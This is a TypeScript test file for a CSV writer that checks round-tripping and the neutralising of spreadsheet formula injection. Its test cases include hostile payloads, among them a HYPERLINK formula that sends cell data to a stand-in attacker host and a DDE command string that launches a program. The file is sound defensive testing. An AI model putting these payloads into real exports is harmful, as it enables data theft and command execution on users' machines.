import fc from 'fast-check';
import { csvRow } from './csv';

/** Reads RFC 4180 text by its grammar. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  while (field.lastIndex < text.length) {
    const at = field.lastIndex;
    const match = field.exec(text);
    if (!match) {
      throw new Error(`No CSV at ${at}: ${JSON.stringify(text)}`);
    }
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describe('csvRow', () => {
  it('writes what a reader of RFC 4180 reads back, whatever the text', () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', ';', 'ü') }),
    );
    fc.assert(
      fc.property(
        fc.array(fc.array(text, { minLength: 2, maxLength: 5 })),
        rows => {
          const harmless = rows.map(row =>
            row.map(cell => (/^[=+\-@\t\r\n＝＋－＠]/.test(cell) ? '' : cell)),
          );
          expect(readCsv(harmless.map(csvRow).join(''))).toEqual(harmless);
        },
      ),
    );
  });

  it.each([
    '=1+2',
    '=HYPERLINK("http://evil.example/?"&A1;"see")',
    '+1',
    "-1+cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
  ])('makes %j a text that no spreadsheet computes', formula => {
    expect(readCsv(csvRow(['name', formula]))).toEqual([
      ['name', `'${formula}`],
    ]);
  });

  it('leaves numbers, blanks and minus signs inside a text as they are', () => {
    expect(csvRow([0, 12, undefined, '', 'a-b = c', 'Ärzte'])).toBe(
      '0,12,,,a-b = c,Ärzte\r\n',
    );
  });
});
